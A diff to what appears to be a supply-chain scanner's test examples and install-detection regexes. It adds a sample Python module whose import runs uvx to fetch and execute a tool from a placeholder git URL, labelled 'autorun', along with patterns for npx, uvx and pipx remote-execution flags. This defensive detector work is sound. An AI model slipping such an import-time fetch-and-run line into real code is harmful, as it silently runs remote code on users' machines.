@@ -81,6 +81,17 @@ EXAMPLES = (
         at="index.js:1",
     ),
     Example(
+        title="a module has a tool fetched from an address and run",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import shutil, subprocess\n"
+            "subprocess.run([shutil.which('uvx'), '--from', 'git+https://git.invalid/helper', 'helper'])\nWIDTH = 2\n"
+        },
+        expect="autorun",
+        at="pad/__init__.py:2",
+    ),
+    Example(
         title="a tool installs what its user's project lists",
         before=_BEFORE,
         after={
@@ -110,6 +121,8 @@ _INSTALLS = rf"""
         | yarn (?:\s+global)? \s+ add \s+ {_OPTION} {_NAME}
         | (?:pip3?|pipx|uv\s+pip|uv\s+tool) \s+ {_OPTION} install \s+ {_OPTION} {_NAME}
         | (?:npx|bunx|uvx|pnpm\s+dlx|yarn\s+dlx) \s+ (?:-y|--yes|--quiet|-q) \s+ {_NAME}
+        | (?:npx|(?:npm|pnpm)\s+(?:exec|x)) \s+ (?:-\S+\s+)* (?:--package|-p)[=\s] \s* {_NAME}
+        | (?:uvx|uv\s+tool\s+run|pipx\s+run) \s+ (?:-\S+\s+)* (?:--from|--spec)[=\s] \s* (?:[a-z]+\+)? https?://
     )
 """
 _INDEX = r"--(?:extra-)?index-url|--registry|(?:^|\s)-i\s+https?://|--find-links\s+https?://"
